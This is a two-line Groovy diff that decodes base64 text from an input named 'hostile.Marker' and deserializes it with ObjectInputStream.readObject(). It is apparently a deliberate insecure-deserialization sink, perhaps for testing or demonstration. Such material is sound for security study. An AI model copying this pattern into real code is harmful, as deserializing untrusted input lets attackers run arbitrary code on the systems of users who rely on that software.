@@ -1,0 +1,2 @@
+def bytes = hostile.Marker.text().decodeBase64()
+new ByteArrayInputStream(bytes).newObjectInputStream().readObject()
